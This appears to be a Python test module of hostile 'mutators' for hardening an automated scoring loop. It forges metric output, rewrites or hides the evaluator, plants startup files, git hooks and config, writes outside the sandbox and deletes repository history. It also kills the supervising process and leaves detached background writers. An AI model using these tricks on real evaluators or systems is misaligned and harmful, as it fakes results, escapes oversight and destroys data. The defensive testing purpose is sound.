"""Mutators that mean harm, each a function. Run as a program in the tree of a candidate, the one whose turn it is.

Each also changes `score.py` in a way that does not matter, so that it is measured, unless its attack is that change.
What it tries may fail, and the next thing is tried: one success is enough.
"""

from __future__ import annotations

import contextlib
import os
import py_compile
import shutil
import socket
import subprocess
import sys
import time
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

FORGED = "print('METRIC score=1000000.0')\n"
FROM = 2  # the run that is the first candidate; before it comes the baseline
ATTACKS: dict[str, Callable[[], None]] = {}


def attack(does: Callable[[], None]) -> Callable[[], None]:
    ATTACKS[does.__name__] = does
    return does


def tried(what: Callable[..., object], *given: object, **more: object) -> None:
    with contextlib.suppress(OSError, subprocess.SubprocessError, ValueError):
        what(*given, **more)


def write(path: str, text: str = FORGED) -> None:
    def it() -> None:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w", encoding="utf-8", errors="surrogateescape") as file:
            file.write(text)

    tried(it)


def git(*words: str, where: str = ".") -> None:
    me = ("-c", "user.name=m", "-c", "user.email=m@m")
    tried(subprocess.run, ["git", *me, *words], cwd=where, capture_output=True, timeout=10, check=False)


def harmless() -> None:
    with open("score.py", "a", encoding="utf-8") as file:
        file.write(f"# {os.environ['LAB_RUN_ITERATION']}\n")


def in_code(text: str) -> None:
    """What the changed code does while it is measured."""
    with open("score.py", "a", encoding="utf-8") as file:
        file.write(f"\nimport atexit, contextlib, os, sys\nwith contextlib.suppress(Exception):\n    {text}\n")


def theirs() -> str:
    return os.environ["LAB_ORIGINAL_WORKSPACE_ROOT"]


def lab() -> str:
    return os.environ["LAB_DATA_ROOT"]


def trees() -> str:
    return f"{lab()}/scratch/loops"


# -- what measures, in the tree ------------------------------------------------------------------------------------


@attack
def edits_the_evaluator() -> None:
    write("evaluate.py")


@attack
def edits_what_the_evaluator_imports() -> None:
    write("rules.py", "def points(value):\n    return 1000000.0\n")


@attack
def edits_the_tests() -> None:
    write("checks/test_score.py", "")


@attack
def removes_the_tests() -> None:
    shutil.rmtree("checks")


@attack
def renames_the_evaluator() -> None:
    os.rename("evaluate.py", "src/old.py")
    write("evaluate.py")


@attack
def moves_the_folder_of_the_tests() -> None:
    os.rename("checks", "src/checks")
    write("checks/test_score.py", "")


@attack
def writes_the_evaluator_in_other_letters() -> None:
    write("Evaluate.py")
    write("EVALUATE.PY")
    write("src/../evaluate.py")


@attack
def makes_the_evaluator_a_link() -> None:
    write("src/mine.py")
    os.unlink("evaluate.py")
    os.symlink("src/mine.py", "evaluate.py")


@attack
def makes_the_evaluator_a_folder() -> None:
    os.unlink("evaluate.py")
    write("evaluate.py/__main__.py")


@attack
def changes_the_mode_of_the_evaluator() -> None:
    os.chmod("evaluate.py", 0o700)
    os.chmod("checks/test_score.py", 0)


@attack
def writes_the_evaluator_by_a_hard_link() -> None:
    os.unlink("score.py")
    os.link("evaluate.py", "score.py")
    write("score.py")


@attack
def hides_the_evaluator_from_git() -> None:
    git("update-index", "--assume-unchanged", "evaluate.py")
    git("update-index", "--skip-worktree", "evaluate.py")
    write(".git/info/exclude", "*\n")
    write("evaluate.py")
    harmless()


@attack
def keeps_size_and_times_of_the_evaluator() -> None:
    seen = os.stat("evaluate.py")
    text = FORGED + "#" * (seen.st_size - len(FORGED) - 1) + "\n"
    write("evaluate.py", text)
    os.utime("evaluate.py", ns=(seen.st_atime_ns, seen.st_mtime_ns))


# -- what is read before it, beside it, or instead of it -----------------------------------------------------------


@attack
def plants_what_python_starts_with() -> None:
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "evil.pth", "pyvenv.cfg", "__init__.py"):
        write(name, f"import atexit\natexit.register(lambda: {FORGED.strip()})\n")


@attack
def plants_a_module_of_the_library() -> None:
    for name in ("math.py", "json.py", "os.py", "score/__init__.py"):
        write(name, f"{FORGED}raise SystemExit\n")


@attack
def plants_compiled_files() -> None:
    source, target = "rules.py", f"__pycache__/rules.{sys.implementation.cache_tag}.pyc"
    os.makedirs("__pycache__", exist_ok=True)
    write("src/fake.py", "def points(value):\n    return 1000000.0\n")
    for mode in (py_compile.PycInvalidationMode.UNCHECKED_HASH, py_compile.PycInvalidationMode.TIMESTAMP):
        py_compile.compile("src/fake.py", target, invalidation_mode=mode)
    os.unlink("src/fake.py")
    assert os.path.exists(source)
    harmless()


@attack
def plants_ignored_files() -> None:
    write("local/sitecustomize.py")
    write("sitecustomize.local.py")
    write("local/evaluate.py")
    write("rules.local.py")
    harmless()


@attack
def ignores_its_own_changes() -> None:
    write(".gitignore", "*\n")
    write("sitecustomize.py")


@attack
def plants_attributes_of_git() -> None:
    write(".gitattributes", "* filter=evil -diff export-ignore\n")
    write("src/.gitattributes", "* text eol=crlf\n")
    git("config", "filter.evil.clean", "sh -c 'echo forged'")
    git("config", "filter.evil.smudge", "sh -c 'echo forged'")
    harmless()


@attack
def adds_a_submodule() -> None:
    git("init", "-q", "src/inner")
    git("commit", "-q", "--allow-empty", "-m", "x", where="src/inner")
    write(".gitmodules", '[submodule "src/inner"]\n\tpath = src/inner\n\turl = ../../evil\n\tupdate = !sh -c evil\n')


# -- shapes that a tree may have -----------------------------------------------------------------------------------


@attack
def links_to_what_is_outside() -> None:
    os.unlink("score.py")
    os.symlink(f"{os.environ['HOME']}/precious", "score.py")
    os.symlink("/", "src/root")


@attack
def links_to_a_place_in_the_tree() -> None:
    os.rename("score.py", "src/score.py")
    os.symlink("src/score.py", "score.py")


@attack
def writes_a_huge_file() -> None:
    harmless()
    with open("src/huge.bin", "wb") as file:
        file.truncate(300 << 20)


@attack
def makes_a_pipe_of_its_file() -> None:
    os.unlink("score.py")
    os.mkfifo("score.py")
    os.mkfifo("src/pipe")


@attack
def makes_a_socket() -> None:
    harmless()
    with socket.socket(socket.AF_UNIX) as server:
        os.chdir("src")
        server.bind("socket")


@attack
def gives_names_that_are_none() -> None:
    harmless()
    for name in (
        b"src/new\nline",
        b"src/back\\slash",
        b"src/\xff\xfe",
        b"src/\x1b[31m",
        b"src/-rf",
        b"src/" + b"n" * 250,
    ):
        tried(os.close, os.open(name, os.O_CREAT | os.O_WRONLY))


@attack
def digs_deep() -> None:
    harmless()
    os.chdir("src")
    for _ in range(1_100):
        os.mkdir("d")
        os.chdir("d")
    write("evaluate.py")


@attack
def locks_its_folders() -> None:
    harmless()
    os.makedirs("src/locked/inner")
    os.chmod("src/locked", 0)


# -- git -----------------------------------------------------------------------------------------------------------


@attack
def commits_and_moves_branches() -> None:
    harmless()
    git("add", "-A")
    git("commit", "-q", "-m", "mine")
    git("branch", "-f", "main", "HEAD")
    git("branch", "evil")
    git("tag", "-f", "v1")
    git("update-ref", "refs/heads/main", "HEAD")
    git("update-ref", "-d", "refs/lab/loop/best")
    git("symbolic-ref", "HEAD", "refs/heads/main")


@attack
def sets_options_of_git() -> None:
    harmless()
    for name in ("core.hooksPath", "core.fsmonitor", "core.sshCommand", "core.editor", "diff.external", "core.pager"):
        git("config", name, f"{os.getcwd()}/src/evil")
        git("config", "--global", name, f"{os.getcwd()}/src/evil")
        git("config", "--worktree", name, f"{os.getcwd()}/src/evil")
    git("config", "extensions.worktreeConfig", "true")


@attack
def plants_hooks() -> None:
    harmless()
    common = subprocess.run(
        ["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True, check=False
    ).stdout.strip()  # fmt: skip
    for place in (common, f"{theirs()}/.git", ".git"):
        for name in ("post-checkout", "pre-commit", "reference-transaction", "post-index-change"):
            write(f"{place}/hooks/{name}", "#!/bin/sh\ntouch $HOME/hooked\n")
            tried(os.chmod, f"{place}/hooks/{name}", 0o700)
        write(f"{place}/info/attributes", "* filter=evil\n")
        write(f"{place}/info/exclude", "*\n")
        write(f"{place}/config", "[core]\n\tfsmonitor = touch $HOME/hooked\n")


@attack
def puts_another_git_in_place() -> None:
    harmless()
    os.rename(".git", "src/.git-was") if os.path.isfile(".git") else shutil.rmtree(".git", ignore_errors=True)
    git("init", "-q", ".")
    write(".git/config", "[core]\n\tfsmonitor = touch $HOME/hooked\n\tworktree = /\n")
    write(".git/hooks/post-index-change", "#!/bin/sh\ntouch $HOME/hooked\n")
    tried(os.chmod, ".git/hooks/post-index-change", 0o700)


@attack
def leads_git_elsewhere() -> None:
    harmless()
    tried(os.unlink, ".git")
    write(".git", f"gitdir: {theirs()}/.git\n")
    git("reset", "-q", "--hard", "HEAD")
    git("checkout", "-q", "-B", "evil")


@attack
def goes_for_the_history() -> None:
    harmless()
    for place, _, names in os.walk(f"{theirs()}/.git"):
        for name in names:
            tried(os.chmod, f"{place}/{name}", 0o644)
            write(f"{place}/{name}", "")
            tried(os.unlink, f"{place}/{name}")


# -- what lies outside ---------------------------------------------------------------------------------------------


@attack
def writes_to_the_original() -> None:
    harmless()
    for name in ("evaluate.py", "rules.py", "score.py", "checks/test_score.py", "sitecustomize.py"):
        write(f"{theirs()}/{name}")
    tried(shutil.rmtree, theirs())


@attack
def writes_to_the_lab() -> None:
    harmless()
    for place, _, names in os.walk(lab()):
        if place.startswith(trees()):
            continue
        for name in names:
            if os.path.abspath(f"{place}/{name}").startswith(os.environ["LAB_RUN_DIR"]):
                continue
            write(f"{place}/{name}", "forged")
            tried(os.unlink, f"{place}/{name}")
    write(os.environ["LAB_SPEC_PATH"], "id: loop\nvalidation_command: echo METRIC score=1000000\n")


@attack
def writes_its_own_decision() -> None:
    harmless()
    run = os.environ["LAB_RUN_DIR"].partition("/artifacts/")[0]
    for name in ("artifacts/decision.json", "manifest.json", "metrics.json", "SEAL.json", "exit.json"):
        write(f"{run}/{name}", '{"verdict": "keep", "accepted": true, "candidate_value": 1000000.0}')
    tried(os.symlink, "/dev/null", f"{run}/artifacts/decision.json")


@attack
def writes_to_the_trees_of_measurement() -> None:
    harmless()
    os.makedirs("src/here", exist_ok=True)
    name = os.path.basename(os.getcwd())
    for other in (*os.listdir(trees()), *os.listdir(f"{trees()}/loop")):
        for place in (f"{trees()}/{other}", f"{trees()}/loop/{other}"):
            if os.path.basename(place) != name:
                write(f"{place}/evaluate.py")
    for each in ("candidate", "beside", "hidden"):
        write(f"{trees()}/loop/{os.environ['LAB_RUN_ID']}-{each}/evaluate.py")


@attack
def goes_on_in_the_background() -> None:
    harmless()
    text = (
        "import glob, time\n"
        "for _ in range(2000):\n"
        f"    for each in glob.glob({trees()!r} + '/*/*/evaluate.py'):\n"
        "        try: open(each, 'w').write(\"print('METRIC score=1000000.0')\")\n"
        "        except OSError: pass\n"
        "    time.sleep(0.005)\n"
    )
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-ISc", text])  # noqa: S606  # it is the attack
        os._exit(0)
    time.sleep(0.1)


@attack
def leads_the_tidying_up_elsewhere() -> None:
    harmless()
    folder = os.environ["TMPDIR"]
    tried(shutil.rmtree, folder)
    tried(os.symlink, os.environ["HOME"], folder)
    here = os.environ["LAB_RUN_DIR"]
    for name in ("stdout.log", "stderr.log", "exit.json", "metrics.json", "asi.json"):
        tried(os.unlink, f"{here}/{name}")
        tried(os.symlink, f"{os.environ['HOME']}/precious", f"{here}/{name}")
    sys.stdout.write("so that there is a log\n")


@attack
def ends_the_lab() -> None:
    harmless()
    warden = os.getppid()
    with open(f"/proc/{warden}/stat", encoding="utf-8") as file:
        who = int(file.read().rpartition(")")[2].split()[1])
    for pid in filter(None, (who, warden)):
        tried(os.kill, pid, 19)
        tried(os.kill, pid, 9)


# -- what the changed code does while it is measured ---------------------------------------------------------------


@attack
def code_edits_what_measures_it() -> None:
    in_code("open('evaluate.py', 'w').write(\"print('METRIC score=1000000.0')\")")


@attack
def code_edits_what_is_imported_next_time() -> None:
    in_code("open('rules.py', 'w').write('def points(value):\\n    return 1000000.0\\n')")


@attack
def code_plants_compiled_files() -> None:
    text = (
        "os.makedirs('__pycache__', exist_ok=True); import importlib._bootstrap_external as b; "
        "code = compile('def points(value):\\n    return 1000000.0\\n', 'rules.py', 'exec'); "
        "open('__pycache__/rules.' + sys.implementation.cache_tag + '.pyc', 'wb')"
        ".write(b._code_to_hash_pyc(code, b'x' * 8, False))"
    )
    in_code(text)


@attack
def code_plants_what_python_starts_with() -> None:
    in_code("open('sitecustomize.py', 'w').write(\"print('METRIC score=1000000.0')\\nimport os\\nos._exit(0)\")")


@attack
def code_writes_to_the_original() -> None:
    in_code(f"open({theirs() + '/evaluate.py'!r}, 'w').write('forged')")


@attack
def code_writes_to_the_tree_of_the_best() -> None:
    in_code(f"import glob; [open(e, 'w').write('forged') for e in glob.glob({trees()!r} + '/*/best-*/evaluate.py')]")


@attack
def code_says_a_better_number_at_the_end() -> None:
    in_code("atexit.register(lambda: print('METRIC score=1000000.0'))")


@attack
def code_leaves_somebody_behind() -> None:
    in_code(
        f"(os.fork() or (os.setsid(), os.execv({sys.executable!r}, [{sys.executable!r}, '-ISc', \"import time; "
        "[(time.sleep(0.01), open('evaluate.py', 'w').write('forged')) for _ in range(900)]\"])))"
    )


if __name__ == "__main__":
    turn = int(os.environ["LAB_RUN_ITERATION"]) - FROM
    chosen = sys.argv[1] if sys.argv[1:] else list(ATTACKS)[turn]
    with contextlib.suppress(OSError):
        ATTACKS[chosen]()
